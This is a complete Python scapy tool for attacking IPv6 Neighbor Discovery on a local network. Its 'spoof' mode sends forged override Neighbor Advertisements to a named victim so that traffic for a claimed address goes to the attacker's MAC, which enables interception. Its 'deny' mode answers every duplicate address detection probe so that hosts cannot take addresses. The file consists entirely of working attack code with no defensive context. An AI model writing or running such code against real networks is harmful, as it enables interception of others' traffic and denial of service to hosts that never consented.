"""Neighbour discovery lies.

    nd.py spoof --mac MAC --claims IP --victim-mac MAC --victim IP    override advertisements to one victim
    nd.py deny --mac MAC                                             answers every duplicate address detection
"""
import argparse
import time

from scapy.all import AsyncSniffer, Ether, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6NDOptDstLLAddr, IPv6, conf, sendp

conf.verb = 0
parser = argparse.ArgumentParser()
parser.add_argument("mode", choices=["spoof", "deny"])
parser.add_argument("--mac", required=True)
parser.add_argument("--claims")
parser.add_argument("--victim-mac")
parser.add_argument("--victim")
args = parser.parse_args()


def spoof():
    for _ in range(3):
        sendp(
            Ether(src=args.mac, dst=args.victim_mac) / IPv6(src=args.claims, dst=args.victim, hlim=255) / ICMPv6ND_NA(tgt=args.claims, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=args.mac),
            iface="eth0",
        )
        time.sleep(0.3)


def deny():
    socket = conf.L2socket(iface="eth0")

    def heard(frame):
        if ICMPv6ND_NS in frame and frame[IPv6].src == "::":
            target = frame[ICMPv6ND_NS].tgt
            socket.send(Ether(src=args.mac, dst="33:33:00:00:00:01") / IPv6(src=target, dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt=target, R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=args.mac))

    AsyncSniffer(iface="eth0", filter="icmp6", prn=heard, store=False, started_callback=lambda: print("ready", flush=True)).start()
    while True:
        time.sleep(1)


{"spoof": spoof, "deny": deny}[args.mode]()
